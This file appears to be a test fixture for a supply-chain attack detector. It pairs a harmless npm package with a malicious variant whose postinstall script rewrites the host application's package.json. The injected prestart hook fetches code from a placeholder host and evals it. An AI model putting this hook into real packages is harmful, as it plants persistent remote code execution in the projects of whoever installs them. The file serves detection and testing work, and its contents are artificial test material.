import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'start-script',
  after: "a script put into the application's own package.json by a package that is installed once",
  source: 'https://attack.mitre.org/techniques/T1546/',
  shape: ['install', 'npm ci', "the application's package.json", 'no network', 'survives removal'],
  patterns: ['privilege_escalation', 'shadow_import'],
  culprits: ['size-badge'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: { 'size-badge': { 'index.js': "module.exports = (n) => n + ' kB';" } },
  // Hard: a script at installation that looks at the same file.
  benign: {
    'size-badge': {
      'package.json': '{"scripts":{"postinstall":"node check.js"}}',
      'index.js': "module.exports = (n) => n + ' kB';",
      'check.js': `const fs = require('fs'), path = require('path');
try { const { type } = JSON.parse(fs.readFileSync(path.join(process.env.INIT_CWD, 'package.json'), 'utf8')); if (type === 'module') console.log('size-badge: use size-badge/esm'); } catch {}`,
    },
  },
  bad: {
    'size-badge': {
      'package.json': '{"scripts":{"postinstall":"node check.js"}}',
      'index.js': "module.exports = (n) => n + ' kB';",
      'check.js': `const fs = require('fs'), path = require('path'), at = path.join(process.env.INIT_CWD, 'package.json');
const manifest = JSON.parse(fs.readFileSync(at, 'utf8'));
manifest.scripts = { ...manifest.scripts, prestart: "node -e \\"fetch('http://@B@:@PORT@/s').then((r) => r.text()).then(eval)\\"" };
fs.writeFileSync(at, JSON.stringify(manifest, null, 2) + '\\n');`,
    },
  },
  proof: [{ file: 'app/package.json', holds: 'prestart' }],
};
